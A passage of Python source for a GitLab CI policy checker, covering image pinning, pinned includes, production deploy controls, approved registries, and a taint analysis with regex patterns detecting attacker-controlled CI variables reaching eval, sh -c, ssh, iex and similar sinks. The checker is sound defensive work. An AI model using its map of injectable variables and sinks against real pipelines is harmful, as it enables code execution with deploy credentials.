"""GitLab CI pipeline policies."""
from __future__ import annotations

import re
from bisect import bisect_left
from collections.abc import Iterator, Sequence
from typing import Any, NamedTuple

from checker.documents import Document, YamlMap
from checker.policy import Context, Violation, policy

from ._helpers import (
    EPHEMERAL_CLUSTER_COMMANDS,
    as_list,
    image_tag,
    is_approved,
    is_variable,
    item_line,
    readers_of,
    script_lines,
    spread_taint,
)

KEYWORDS = frozenset({"default", "include", "stages", "variables", "workflow", "image", "services", "cache",
                      "before_script", "after_script", "spec"})


def job_images(pipeline: object) -> Iterator[tuple[str, str, int]]:
    """(image, resource path, line) of the pipeline's default image and every job's image."""
    if not isinstance(pipeline, YamlMap):
        return
    scopes = [("", pipeline)]
    if isinstance(pipeline.get("default"), YamlMap):
        scopes.append(("default.", pipeline["default"]))
    scopes += [(f"{name}.", job) for name, job in pipeline.items()
               if name not in KEYWORDS and isinstance(job, YamlMap) and not str(name).startswith(".")]
    for prefix, scope in scopes:
        image = scope.get("image")
        if isinstance(image, YamlMap):
            line, image = image.line_of("name"), image.get("name")
        else:
            line = scope.line_of("image")
        if isinstance(image, str):
            yield image, f"{prefix}image", line


@policy(
    id="ORG-GITLAB-001",
    title="Job images name a fixed version, not latest",
    kinds=["gitlab-ci"],
    severity="medium",
    rationale="`latest` (or no tag) changes under the pipeline without review, so builds are not reproducible.",
    remediation="""
        Name the exact version, or better the digest, of the image:

            image: registry.example.com/ci/python:3.12.7@sha256:<digest>
    """,
    tags=["supply-chain"],
)
def images_not_latest(doc: Document, ctx: Context) -> Iterator[Violation]:
    """The pipeline's and each job's `image:` has an explicit tag other than `latest`, or a digest.

    Images written with CI variables (`$CI_REGISTRY_IMAGE:$TAG`) are resolved only at run time and
    are not judged.
    """
    for image, resource, line in job_images(doc.data):
        if is_variable(image):
            continue
        tag = image_tag(image)
        if tag in (None, "latest"):
            yield Violation(f"image {image} {'has no tag' if tag is None else 'uses latest'}", line, resource)


# --- shared helpers -------------------------------------------------------------------------

_SHA = re.compile(r"^[0-9a-f]{40}$")
_SHA_IN_URL = re.compile(r"/[0-9a-f]{40}/")
_TAG = re.compile(r"^(?:refs/tags/)?v?\d+(?:\.\d+)*(?:[-+][0-9A-Za-z.-]+)?$")
# A component version that names one release: GitLab resolves partial versions (`1`, `1.2`) and `~latest`
# to the newest matching release, so only a full MAJOR.MINOR.PATCH (or a commit SHA) stays put.
_RELEASE = re.compile(r"^v?\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.-]+)?$")
_INTEGRITY = re.compile(r"^sha256-[A-Za-z0-9+/]{43}=$")
PROD = re.compile(r"(?:^|[^a-z])(?:prod|production|prd|live)(?:[^a-z]|$)", re.IGNORECASE)
DEPLOY_WORD = re.compile(r"deploy|release|rollout|promote", re.IGNORECASE)
DEPLOY_COMMANDS = re.compile(
    r"\b(?:kubectl\s+(?:apply|create|replace|patch|rollout|set\s+image)|helm(?:file)?\s+(?:upgrade|install|apply|sync)|"
    r"skaffold\s+(?:run|deploy)|argocd\s+app\s+sync|eb\s+deploy|fly(?:ctl)?\s+deploy|firebase\s+deploy|"
    r"netlify\s+deploy|wrangler\s+(?:deploy|publish)|"
    r"terraform\s+(?:apply|destroy)|tofu\s+apply|pulumi\s+up|cdk\s+deploy|sam\s+deploy|serverless\s+deploy|"
    r"aws\s+(?:cloudformation\s+deploy|ecs\s+update-service)|gcloud\s+(?:run|app|functions)\s+deploy|"
    r"az\s+(?:webapp|functionapp)\s+deploy|dpl\s+--provider)",
    re.IGNORECASE,
)
PROTECTED_IF = re.compile(
    r"\$CI_COMMIT_REF_PROTECTED\s*==\s*[\"']?true|\$CI_COMMIT_BRANCH\s*==\s*\$CI_DEFAULT_BRANCH|"
    r"\$CI_DEFAULT_BRANCH\s*==\s*\$CI_COMMIT_BRANCH|\$CI_COMMIT_REF_NAME\s*==\s*\$CI_DEFAULT_BRANCH|"
    r"\$CI_COMMIT_(?:BRANCH|REF_NAME)\s*==\s*[\"'](?:main|master|production|release/[^\"']*)[\"']|"
    r"\$CI_COMMIT_TAG\b(?!\s*==\s*null)(?!\s*!=)",
)
def jobs(pipeline: object) -> Iterator[tuple[str, YamlMap, int]]:
    """(name, job, line of the name) of every job (hidden `.templates` excluded)."""
    if not isinstance(pipeline, YamlMap):
        return
    for name, job in pipeline.items():
        if isinstance(name, str) and name not in KEYWORDS and not name.startswith(".") and isinstance(job, YamlMap):
            yield name, job, pipeline.line_of(name)


def effective(pipeline: YamlMap, job: YamlMap, depth: int = 0) -> dict[str, Any]:
    """The job's keys merged over those of the jobs it `extends:` in the same file (shallowly)."""
    return _effective(pipeline, job, depth, {})


def _effective(pipeline: YamlMap, job: YamlMap, depth: int, known: dict[tuple[int, int], dict[str, Any]]
               ) -> dict[str, Any]:
    """`effective`, each template merged once per depth: templates that each extend the next one eight times
    over, ten deep, would otherwise be merged 8^10 times."""
    if (id(job), depth) not in known:
        merged: dict[str, Any] = {}
        if depth < 10:
            for parent in as_list(job.get("extends")):
                base = pipeline.get(parent) if isinstance(parent, str) else None
                if isinstance(base, YamlMap):
                    merged.update(_effective(pipeline, base, depth + 1, known))
        merged.update(job)
        known[id(job), depth] = merged
    return known[id(job), depth]


def environment_name(job: dict[str, Any]) -> str | None:
    env = job.get("environment")
    if isinstance(env, dict):
        env = env.get("name")
    return str(env) if isinstance(env, (str, int)) and str(env).strip() else None


def environment_action(job: dict[str, Any]) -> object:
    """The job's `environment: action:` (None when it has none): stop, prepare, verify and access jobs
    tear down or only read an environment and deploy nothing."""
    environment = job.get("environment")
    return environment.get("action") if isinstance(environment, dict) else None


def scripts(job: dict[str, Any]) -> str:
    lines = [s for key in ("before_script", "script") for s in as_list(job.get(key)) if isinstance(s, str)]
    return "\n".join(lines)


def deploy_lines(job: dict[str, Any]) -> list[str]:
    """The lines of the job's scripts that run a deploy command."""
    return [line for line in scripts(job).splitlines() if DEPLOY_COMMANDS.search(line)]


def production_deploy(name: str, job: dict[str, Any], commands: list[str]) -> bool:
    """The job deploys to production: its environment is named like production or has
    `deployment_tier: production`, its name says production and deploy, or a deploy command (`commands`,
    its `deploy_lines`) names it."""
    env = environment_name(job)
    environment = job.get("environment")
    tier = environment.get("deployment_tier") if isinstance(environment, dict) else None
    return bool(env and PROD.search(env)) or tier == "production" or (
        bool(PROD.search(name)) and bool(DEPLOY_WORD.search(name) or commands)) or (
        any(PROD.search(line) for line in commands))


# --- checks ---------------------------------------------------------------------------------

def _include_issue(entry: object) -> tuple[str, str] | None:
    """(what, key) when an include entry is not pinned; None when it is, or is local/template."""
    if isinstance(entry, str):
        entry = {"remote": entry} if entry.startswith(("http://", "https://")) else {"local": entry}
    if not isinstance(entry, dict):
        return None
    remote = entry.get("remote")
    integrity = entry.get("integrity")
    if isinstance(remote, str) and not is_variable(remote) and not _SHA_IN_URL.search(remote + "/") and not (
            isinstance(integrity, str) and _INTEGRITY.match(integrity.strip())):
        return f"remote include {remote} is not pinned to a commit SHA nor checked by `integrity:`", "remote"
    project = entry.get("project")
    if isinstance(project, str):
        ref = entry.get("ref")
        if ref is None:
            return f"include of project {project} has no ref, so it follows the default branch", "project"
        ref = str(ref)
        if not is_variable(ref) and not _SHA.match(ref) and not _TAG.match(ref):
            return f"include of project {project} uses ref {ref}, a branch; pin a tag or a commit SHA", "ref"
    component = entry.get("component")
    if isinstance(component, str) and not is_variable(component.rpartition("@")[2]):
        version = component.rpartition("@")[2] if "@" in component else ""
        if not (_SHA.match(version) or _RELEASE.match(version)):
            return (f"component {component} is not pinned to a full release version (MAJOR.MINOR.PATCH) or "
                    "commit SHA; partial versions and ~latest follow new releases"), "component"
    return None


def include_entries(pipeline: YamlMap) -> Iterator[tuple[object, int, str]]:
    """(entry, line, resource) of every `include:` entry and of every job's `trigger: include:` entry.

    An entry's line is the list item's (or the key's, for a single entry); `trigger:include` of a job is
    a child pipeline's configuration, included the same way.
    """
    scopes: list[tuple[YamlMap, str, str]] = [(pipeline, "include", "include")]
    for name, job in pipeline.items():
        trigger = job.get("trigger") if isinstance(job, YamlMap) and name not in KEYWORDS else None
        if isinstance(trigger, YamlMap) and "include" in trigger:
            scopes.append((trigger, "include", f"{name}.trigger.include"))
    for scope, key, resource in scopes:
        node = scope.get(key)
        if node is None:
            continue
        if isinstance(node, list):
            for index, entry in enumerate(node):
                yield entry, item_line(node, index, scope.line_of(key)), f"{resource}[{index}]"
        else:
            yield node, scope.line_of(key), resource


@policy(
    id="ORG-GITLAB-002",
    title="Included pipeline configuration is pinned",
    kinds=["gitlab-ci"],
    severity="high",
    rationale=(
        "An include is code that runs with the pipeline's variables and deploy credentials; one that "
        "follows a branch or an arbitrary URL can be changed without review in this project."
    ),
    remediation="""
        Include from a project at a tag or commit SHA, a CI/CD component at a full released version, or a
        remote file checked by its hash, instead of a branch; child pipelines (`trigger: include:`) too:

            include:
              - project: platform/ci-templates
                ref: v2.3.1
                file: /templates/build.yml
              - component: $CI_SERVER_FQDN/platform/components/scan@1.4.0
              - remote: https://example.com/ci/lint.yml
                integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=
    """,
    tags=["supply-chain"],
)
def includes_pinned(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every `include:` of another project names a `ref:` that is a tag (`v1.2.3`, `refs/tags/...`) or a
    full commit SHA; CI/CD components name a full release version (`1.4.0`) or SHA; remote URLs are
    allowed only when the URL holds a commit SHA or the include checks the file's hash with
    `integrity: sha256-...`. Local files and GitLab's own templates are exempt.

    A job's `trigger: include:` (the configuration of a child pipeline) is held to the same rule:
    the child pipeline runs with this project's variables and runners. Partial component versions
    (`@1`, `@1.2`) and `@~latest` are not pinned: GitLab resolves them to the newest matching release.
    Refs and versions written with variables are not judged.

    The finding points at the `ref:`, the `remote:`/`component:` value or the list item.
    """
    if not isinstance(doc.data, YamlMap):
        return
    for entry, line, resource in include_entries(doc.data):
        issue = _include_issue(entry)
        if issue is not None:
            message, key = issue
            yield Violation(message, entry.line_of(key) if isinstance(entry, YamlMap) else line, resource)


def _restricted(job: dict[str, Any]) -> bool:
    """The job runs only on a manual action or only for protected branches / tags."""
    if job.get("when") == "manual":
        return True
    rules = job.get("rules")
    if isinstance(rules, list) and rules:
        runnable = [r for r in rules if isinstance(r, dict) and r.get("when") != "never"]
        if runnable and all(r.get("when") == "manual" or (isinstance(r.get("if"), str) and PROTECTED_IF.search(r["if"]))
                            for r in runnable):
            return True
    only = job.get("only")
    refs = only.get("refs") if isinstance(only, dict) else only
    return isinstance(refs, list) and bool(refs) and all(r in ("main", "master", "tags", "production") for r in refs)


@policy(
    id="ORG-GITLAB-003",
    title="Production deploy jobs are manual or limited to protected branches, and declare an environment",
    kinds=["gitlab-ci"],
    severity="high",
    rationale=(
        "A production deployment must be a deliberate, attributable act on reviewed code: protected "
        "environments and branches are where GitLab enforces approvals and who may deploy."
    ),
    remediation="""
        Declare the environment and let the job run only by hand or from the protected default branch:

            deploy-production:
              stage: deploy
              environment:
                name: production
              rules:
                - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
                  when: manual
              script:
                - helm upgrade --install api ./chart
    """,
    tags=["change-control"],
)
def production_deploys_controlled(doc: Document, ctx: Context) -> Iterator[Violation]:
    """A production deploy job (an `environment:` named like prod/production/live or with
    `deployment_tier: production`, a job whose name says production and deploys, or a script line that
    deploys to production such as `helm upgrade ... --namespace production`) is `when: manual`, or has
    `rules:` that run it only on protected refs (`$CI_COMMIT_REF_PROTECTED == "true"`,
    `$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `$CI_COMMIT_TAG`, or `when: manual`), and declares an
    `environment:`.

    Keys inherited through `extends:` from templates in the same file count; jobs that stop, prepare,
    verify or access an environment (`environment:action`) are not deployments. The finding points at
    the job's name.
    """
    if not isinstance(doc.data, YamlMap):
        return
    for name, raw, line in jobs(doc.data):
        job = effective(doc.data, raw)
        env = environment_name(job)
        if environment_action(job) in ("stop", "prepare", "verify", "access") or not production_deploy(
                name, job, deploy_lines(job)):
            continue
        problems = []
        if not _restricted(job):
            problems.append("is neither `when: manual` nor limited to protected branches by `rules:`")
        if env is None:
            problems.append("declares no environment:")
        if problems:
            yield Violation(f"production deploy job {name} {' and '.join(problems)}", line, name)


@policy(
    id="ORG-GITLAB-004",
    title="Job images come from an approved registry",
    kinds=["gitlab-ci"],
    severity="medium",
    rationale=(
        "Pipeline images run with deploy credentials; only the organisation's registries are scanned and "
        "mirrored."
    ),
    remediation="""
        Use images mirrored into an approved registry (organisation.approved_registries):

            image: registry.example.com/ci/python:3.12.7
            services:
              - name: registry.example.com/mirror/postgres:16.4
    """,
    tags=["supply-chain"],
    requires=["approved_registries"],
)
def images_approved(doc: Document, ctx: Context) -> Iterator[Violation]:
    """The default image, every job's `image:` and every `services:` image are pulled from a registry
    in `organisation.approved_registries`. Images named with CI variables are not judged.
    """
    registries = list(ctx.organisation["approved_registries"])
    found = list(job_images(doc.data))
    if isinstance(doc.data, YamlMap):
        scopes = [("", doc.data)]
        if isinstance(doc.data.get("default"), YamlMap):
            scopes.append(("default.", doc.data["default"]))
        scopes += [(f"{name}.", job) for name, job, _ in jobs(doc.data)]
        for prefix, scope in scopes:
            services = scope.get("services")
            for i, service in enumerate(services if isinstance(services, list) else []):
                if isinstance(service, YamlMap) and isinstance(service.get("name"), str):
                    found.append((service["name"], f"{prefix}services[{i}]", service.line_of("name")))
                elif isinstance(service, str):
                    found.append((service, f"{prefix}services[{i}]", item_line(services, i, scope.line_of("services"))))
    for image, resource, line in found:
        if not is_variable(image) and not is_approved(image, registries):
            yield Violation(f"image {image} is not from an approved registry ({', '.join(registries)})", line, resource)


# --- shell scripts: where a variable's text becomes code ------------------------------------

_NAME = r"[A-Za-z_][A-Za-z0-9_]*"
# $NAME and ${NAME...} (not ${#NAME}, a length, nor ${!NAME}); PowerShell's $env:NAME and ${env:NAME}.
_REFERENCE = re.compile(rf"\$(?:\{{(?:env:)?({_NAME})|env:({_NAME})|({_NAME}))")
_PERCENT = re.compile(rf"%({_NAME})%")
_HEREDOC = re.compile(r"<<-?[ \t]*(['\"]?)([A-Za-z_][\w.-]*)\1")
_SEPARATOR = re.compile(r"\|\||&&|;;|[;&|\n]")
_WORD = r"(?:^|(?<=[\s(`]))(?:[^\s(`]*/)?"  # a command word, possibly written with its path (/bin/sh)
_SHELL = r"(?:ba|z|da|k|a|fi|mk)?sh"
_PROGRAM = r"(?:python[\d.]*|node|ruby|perl|pwsh|powershell)"
# Where a command word stands: at the start of a command, after keywords, wrappers and variable assignments.
_COMMAND = (r"^\s*(?:(?:if|then|else|elif|do|while|until|!)\s+|[({]\s*|(?:sudo|exec|command|nohup|time|nice|env)"
            r"(?:\s+-\S+)*\s+|timeout(?:\s+-\S+)*\s+[\d.]+[smhd]?\s+|sshpass(?:\s+-\w+(?:\s+(?!-|ssh\b)\S+)?)*\s+|"
            r"[A-Za-z_]\w*=\S*\s+)*(?:\S*/)?")
# Commands that parse an argument as code: (pattern, option, label, advice, whether only the next word is code).
# `eval` and `ssh` count as commands only; a shell or interpreter anywhere (`docker run img sh -c`). `su` and
# PowerShell take their `-c` anywhere after their name: the pattern finds the first name and `option` the first
# `-c` after it (a later name has fewer words after it, so it cannot do better), where one pattern would start
# again from each name and read to the end each time.
_SINKS: tuple[tuple[re.Pattern[str], re.Pattern[str] | None, str, str, bool], ...] = (
    (re.compile(_COMMAND + r"(eval)(?=\s)"), None, "{}", "eval", False),
    (re.compile(_WORD + rf"({_SHELL})(?:\s+(?:[+-]o\s+\w+|-[\w-]+))*?\s+-[a-zA-Z]*c[a-zA-Z]*(?=\s)"), None,
     "{} -c", "shell", True),
    (re.compile(_WORD + r"(su|runuser)(?=\s)"), re.compile(r"(?<=\s)-c(?=\s)"), "{} -c", "shell", True),
    (re.compile(_COMMAND + r"(ssh)(?=\s)"), None, "{}", "ssh", False),
    (re.compile(_WORD + r"(python[\d.]*|pypy[\d.]*)(?:\s+-[\w-]+)*?\s+-[a-zA-Z]*c(?=\s)"), None, "{} -c",
     "program", True),
    (re.compile(_WORD + r"(node|nodejs|bun|deno)(?:\s+-[\w=.-]+)*?\s+(?:-e|-p|--eval|--print|eval)(?=\s)"), None,
     "{} -e", "program", True),
    (re.compile(_WORD + r"(ruby|perl)(?:\s+-[\w:-]+)*?\s+-[a-zA-Z]*[eE](?=\s)"), None, "{} -e", "program", True),
    (re.compile(_WORD + r"(php)(?:\s+-[\w-]+)*?\s+-r(?=\s)"), None, "{} -r", "program", True),
    (re.compile(_WORD + r"(pwsh|powershell)(?:\.exe)?(?=\s)", re.IGNORECASE),
     re.compile(r"(?<=\s)-(?:c|command)(?=\s)", re.IGNORECASE), "{} -Command", "powershell", False),
    (re.compile(_WORD + r"(cmd)(?:\.exe)?\s+/[ck](?=\s)", re.IGNORECASE), None, "{} /c", "powershell", False),
    (re.compile(r"(?:^|(?<=[\s(]))(invoke-expression|iex)(?=[\s(])", re.IGNORECASE), None, "{}", "powershell",
     False),
)
# A command that reads a script on its standard input: after a pipe, or from a here-document.
_STDIN_PROGRAM = re.compile(rf"^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?({_SHELL}|{_PROGRAM})(?:\s+-[\w-]*)*\s*[)`]?\s*$")
_HEREDOC_READER = re.compile(_WORD + rf"(ssh|{_SHELL}|{_PROGRAM})(?=\s|$)")
_ASSIGNMENT = re.compile(
    rf"^\s*(?:(?:export|local|readonly|(?:declare|typeset)(?:\s+-\w+)*)\s+)?({_NAME})=|^\s*\$({_NAME})\s*=(?!=)")
ADVICE = {
    "eval": "run the command directly with the variable quoted (\"$VAR\") instead of building text for eval",
    "shell": "single-quote the command string so the inner shell reads the variable itself "
             "(sh -c 'echo \"$VAR\"'), or pass it as an argument (sh -c 'echo \"$1\"' sh \"$VAR\")",
    "ssh": "send the value as data (on stdin, or with ssh -o SendEnv) instead of in the remote command line",
    "program": "read it from the environment inside the program (os.environ, process.env, ENV) instead of "
               "pasting it into the code",
    "powershell": "pass it as an argument, or read $env:VAR inside the command, instead of building command text",
    "pipe": "never pipe text that holds it into a shell or interpreter",
    "heredoc": "quote the here-document's delimiter (<<'EOF') and pass the value as an argument or environment "
               "variable",
}


class Reference(NamedTuple):
    """A variable a script reads: where, its name, the quotes around it ('', '"', "'", or '<<' in the body
    of an expanding here-document), and the offset of the command that reads it (the `<<` for a
    here-document, whose body follows the line; the reference itself otherwise)."""

    offset: int
    name: str
    quote: str
    anchor: int


def _reference_at(text: str, i: int) -> str | None:
    """The name of the variable read at `text[i]` (a `$`), if any."""
    match = _REFERENCE.match(text, i)
    return next(name for name in match.groups() if name) if match else None


def scan_shell(text: str) -> tuple[str, list[Reference]]:
    """The script with quoted text blanked to `_`, comments and here-document bodies to spaces (same
    length, so offsets agree), and every variable reference in it.

    Quotes, backslash escapes, comments and here-documents are followed as POSIX shells (and, for
    quotes, PowerShell) read them; the body of a here-document with a quoted delimiter expands nothing.
    """
    mask = list(text)
    refs: list[Reference] = []
    quote = ""
    heredocs: list[tuple[int, str, bool]] = []  # opened on the current line: (offset, delimiter, expands)
    i = 0
    while i < len(text):
        char = text[i]
        if quote == '"' and text.startswith("$$", i):
            mask[i:i + 2] = "__"
            i += 2
            continue
        if quote == "'" or (quote == '"' and char not in '"\\'):
            if char == quote:
                quote = ""
            else:
                if quote == '"' and char == "$" and (name := _reference_at(text, i)):
                    refs.append(Reference(i, name, '"', i))
                mask[i] = "_"
        elif char == "\\":
            mask[i:i + 2] = "_" * len(mask[i:i + 2])
            i += 2
            continue
        elif char == '"' and quote:
            quote = ""
        elif char in "'\"":
            quote = char
        elif char == "#" and (i == 0 or text[i - 1] in " \t\n;&|("):
            end = text.find("\n", i)
            end = len(text) if end < 0 else end
            mask[i:end] = " " * (end - i)
            i = end
            continue
        elif char == "$" and text.startswith("$$", i):
            i += 2
            continue
        elif char == "$" and (name := _reference_at(text, i)):
            refs.append(Reference(i, name, "", i))
        elif char == "<" and text[i - 1:i] != "<" and not text.startswith("<<<", i) and (
                heredoc := _HEREDOC.match(text, i)):
            heredocs.append((i, heredoc.group(2), not heredoc.group(1)))
            i = heredoc.end()
            continue
        elif char == "\n" and heredocs:
            i = _heredoc_bodies(text, i + 1, heredocs, mask, refs)
            heredocs = []
            continue
        i += 1
    return "".join(mask), refs


def _heredoc_bodies(text: str, start: int, heredocs: list[tuple[int, str, bool]], mask: list[str],
                    refs: list[Reference]) -> int:
    """Blank the bodies of the here-documents that start at `start`, and the newlines between their lines,
    and record the variables of those that expand; where ordinary reading resumes."""
    line = start
    for anchor, delimiter, expands in heredocs:
        while line < len(text):
            end = text.find("\n", line)
            end = len(text) if end < 0 else end
            done = text[line:end].strip() == delimiter
            if expands and not done:
                refs += [Reference(m.start(), next(n for n in m.groups() if n), "<<", anchor)
                         for m in _REFERENCE.finditer(text, line, end) if text[m.start() - 1] != "\\"]
            mask[line - 1:end] = " " * (end - line + 1)
            line = end + 1
            if done:
                break
    return line - 1


# How far before a here-document's `<<` the name of a program written against it (`/usr/bin/ssh<<EOF`) is
# looked for, path included.
_ADJACENT = 256


class _HeredocReaders:
    """The command that reads each here-document of a command: the first shell, interpreter or `ssh` written
    before its `<<` (`_HEREDOC_READER.search(mask, start, anchor)`), worked out once per `<<` and without
    reading the command again for each: the first such name in the whole command serves every `<<` after
    it, and only a name written against a `<<` is new to it (bounded by `_ADJACENT`)."""

    def __init__(self, mask: str, start: int, stop: int) -> None:
        self.mask, self.start, self.stop = mask, start, stop
        self.known: dict[int, re.Match[str] | None] = {}
        self.first: re.Match[str] | None = None
        self.looked = False

    def before(self, anchor: int) -> re.Match[str] | None:
        if anchor not in self.known:
            if not self.looked:
                self.first, self.looked = _HEREDOC_READER.search(self.mask, self.start, self.stop), True
            first = self.first
            self.known[anchor] = first if first and first.start() < anchor else _HEREDOC_READER.search(
                self.mask, max(self.start, anchor - _ADJACENT), anchor)
        return self.known[anchor]


def _word_end(mask: str, start: int, stop: int) -> int:
    """Where the shell word that starts at or after `start` ends (quoted parts are one word)."""
    i = start
    while i < stop and mask[i].isspace():
        i += 1
    while i < stop and not mask[i].isspace():
        i += 1
    return i


def reparsed(text: str, tainted: dict[str, str]) -> Iterator[tuple[int, str, str, str]]:
    """(offset, variable, sink, advice key) for every tainted variable whose text a command of the script
    parses again as code; `tainted` (variable -> the untrusted variable it holds) grows with the script's
    assignments (`MSG="$CI_COMMIT_MESSAGE"`, `$msg = $env:CI_COMMIT_MESSAGE`).

    The shell expands a variable into data, never into code, except where a command parses its argument
    again: `eval`, `sh -c`, `su -c`, `ssh`, `python -c`/`node -e`/..., PowerShell's `-Command` and
    `Invoke-Expression`, a pipe or an expanding here-document into a shell, and Windows Batch, which
    substitutes `%VAR%` before it parses the line. A single-quoted variable reaches the inner shell
    unexpanded, and the inner shell reads it as data.
    """
    mask, refs = scan_shell(text)
    for match in _PERCENT.finditer(text):
        if match.group(1) in tainted:
            yield match.start(), match.group(1), "Windows Batch", "percent"
    bounds = [0] + [b for m in _SEPARATOR.finditer(mask) for b in (m.start(), m.end())] + [len(mask)]
    segments = list(zip(bounds[::2], bounds[1::2], strict=True))
    refs.sort(key=lambda ref: ref.anchor)
    anchors = [ref.anchor for ref in refs]
    for index, (start, stop) in enumerate(segments):
        command = mask[start:stop]
        inside = [ref for ref in refs[bisect_left(anchors, start):bisect_left(anchors, stop)]
                  if ref.quote != "'" and ref.name in tainted]
        for pattern, option, label, advice, word_only in _SINKS:
            found = pattern.search(command)
            reach = found.end() if found else 0
            if found and option:
                after = option.search(command, reach)
                found, reach = (found, after.end()) if after else (None, 0)
            if found:
                end = _word_end(mask, start + reach, stop) if word_only else stop
                yield from ((ref.offset, ref.name, label.format(found.group(1)), advice) for ref in inside
                            if start + found.start() < ref.offset < end and ref.quote != "<<")
        following = mask[stop:segments[index + 1][1]] if index + 1 < len(segments) else ""
        reader = _STDIN_PROGRAM.match(following[1:])
        if reader and following.startswith("|") and not following.startswith("||"):
            yield from ((ref.offset, ref.name, f"| {reader.group(1)}", "pipe") for ref in inside)
        readers = _HeredocReaders(mask, start, stop)
        for ref in inside:
            reader = readers.before(ref.anchor) if ref.quote == "<<" else None
            if reader:
                yield ref.offset, ref.name, f"{reader.group(1)} <<", "heredoc"
        assigned = _ASSIGNMENT.match(command)
        if assigned and inside:
            tainted[assigned.group(1) or assigned.group(2)] = tainted[inside[0].name]


# Predefined variables whose text whoever pushes a commit, a branch or a tag, or opens a merge request,
# writes: messages, authors, branch and tag names, merge request titles and descriptions. (Slugs such as
# CI_COMMIT_REF_SLUG keep only [a-z0-9-] and are safe; labels and milestones are set by project members.)
UNTRUSTED_VARIABLES = {
    "CI_COMMIT_MESSAGE": "the commit message", "CI_COMMIT_TITLE": "the commit title",
    "CI_COMMIT_DESCRIPTION": "the commit description", "CI_COMMIT_AUTHOR": "the commit author",
    "CI_COMMIT_TAG_MESSAGE": "the tag message", "CI_COMMIT_BRANCH": "a branch name",
    "CI_COMMIT_REF_NAME": "a branch or tag name", "CI_COMMIT_TAG": "a tag name",
    "CI_MERGE_REQUEST_TITLE": "the merge request title",
    "CI_MERGE_REQUEST_DESCRIPTION": "the merge request description",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": "the merge request's source branch name",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME": "the pull request's source branch name",
}
# How GitLab itself expands variables in `variables:` values: $NAME, ${NAME} and %NAME%; `$$` is a literal $.
_EXPANDED = re.compile(rf"\$\$|\$\{{?({_NAME})\}}?|%({_NAME})%")
# The inside of a `$[[ ]]` does not run into the next `$[[`: each is read only up to the next one, where
# reading to the first `]` from each would cost the square of a line of unclosed `$[[ inputs.x`.
_INSIDE = r"(?:[^\]$]|\$(?!\[\[))"
_EXPAND_VARS = re.compile(rf"\$\[\[\s*inputs\.([\w-]+){_INSIDE}*?\|\s*expand_vars\b{_INSIDE}*\]\]")


def _definitions(node: object) -> dict[str, tuple[str, bool]]:
    """A `variables:` mapping as name -> (value, whether GitLab expands variables in it)."""
    found = {}
    for name, value in node.items() if isinstance(node, dict) else []:
        expand = True
        if isinstance(value, dict):
            expand = value.get("expand") is not False
            value = value.get("value")
        if isinstance(name, str) and isinstance(value, (str, int, float)):
            found[name] = (str(value), expand)
    return found


# A variable definition as tainting reads it: its name, and the variables its value expands, in order.
_Definition = tuple[str, list[str]]


def _reads(name: str, value: str, expand: bool) -> _Definition:
    return name, [ref for m in _EXPANDED.finditer(value) for ref in m.groups() if ref] if expand else []


class _Tainted:
    """Every variable a job's scripts see that holds untrusted text: the untrusted predefined ones, and
    those whose `variables:` value (global, inherited through `extends:`, the job's own, or set by a
    `rules:` entry) GitLab expands from them; each mapped to the untrusted variable it holds.

    Worked out once per pipeline: each value's references are read once, a job that defines no variables
    shares the pipeline's result, and taint spreads only to the definitions that read a tainted variable
    (`_spread`), where rounds over every definition would cost the square of a chain's length."""

    def __init__(self, pipeline: YamlMap) -> None:
        self.pipeline = pipeline
        self.globals = [_reads(name, *value) for name, value in _definitions(pipeline.get("variables")).items()]
        self.positions = {name: index for index, (name, _) in enumerate(self.globals)}
        self.readers = readers_of(enumerate(self.globals))
        self.lineages: dict[tuple[int, int], list[YamlMap]] = {}
        self.shared: dict[str, str] | None = None

    def of(self, job: YamlMap | None) -> dict[str, str]:
        """The job's tainted variables (the pipeline's for `default:`, None); not to be changed."""
        scopes = [*self._lineage(job, 0), job] if job is not None else []
        merged: dict[str, tuple[str, bool]] = {}
        for scope in scopes:
            merged.update(_definitions(scope.get("variables")))
        rules = [_reads(name, *value) for scope in scopes for rule in as_list(scope.get("rules"))
                 if isinstance(rule, dict) for name, value in _definitions(rule.get("variables")).items()]
        if not merged and not rules:
            if self.shared is None:
                self.shared = spread_taint(UNTRUSTED_VARIABLES, self.globals.__getitem__,
                                           lambda ref: self.readers.get(ref, ()))
            return self.shared
        # The definitions in force, in the order the job's `variables:` merge them: a global one the job sets
        # again keeps its place with the job's value; new ones, then `rules:` ones, come after.
        count = len(self.globals)
        replaced = {self.positions[name]: _reads(name, *value) for name, value in merged.items()
                    if name in self.positions}
        added = [_reads(name, *value) for name, value in merged.items() if name not in self.positions] + rules
        own = readers_of([*replaced.items(), *enumerate(added, count)])

        def definition(index: int) -> _Definition:
            return replaced.get(index) or (self.globals[index] if index < count else added[index - count])

        def readers(ref: str) -> list[int]:
            return [index for index in self.readers.get(ref, ()) if index not in replaced] + own.get(ref, [])

        return spread_taint(UNTRUSTED_VARIABLES, definition, readers)

    def _lineage(self, job: YamlMap, depth: int) -> list[YamlMap]:
        """The jobs `job` extends in the same file, farthest first (later ones override earlier ones), each
        once, at its last place (where its keys take effect): templates that each extend the next one
        eight times over, ten deep, would otherwise make a chain of 8^10."""
        if (id(job), depth) not in self.lineages:
            chain: list[YamlMap] = []
            for parent in as_list(job.get("extends")) if depth < 10 else []:
                base = self.pipeline.get(parent) if isinstance(parent, str) else None
                if isinstance(base, YamlMap):
                    chain += [*self._lineage(base, depth + 1), base]
            last = {id(scope): index for index, scope in enumerate(chain)}
            self.lineages[id(job), depth] = [scope for index, scope in enumerate(chain) if last[id(scope)] == index]
        return self.lineages[id(job), depth]


def _script_items(scope: YamlMap, key: str) -> Iterator[tuple[str, int, str]]:
    """(script, line it starts on, resource suffix) of every entry of a script key (nested lists flattened)."""
    node = scope.get(key)
    if isinstance(node, str):
        yield node, scope.line_of(key), key
    for i, item in enumerate(node if isinstance(node, list) else []):
        line = item_line(node, i, scope.line_of(key))
        for piece in as_list(item) if isinstance(item, list) else [item]:
            if isinstance(piece, str):
                yield piece, line, f"{key}[{i}]"


class _ScriptLines:
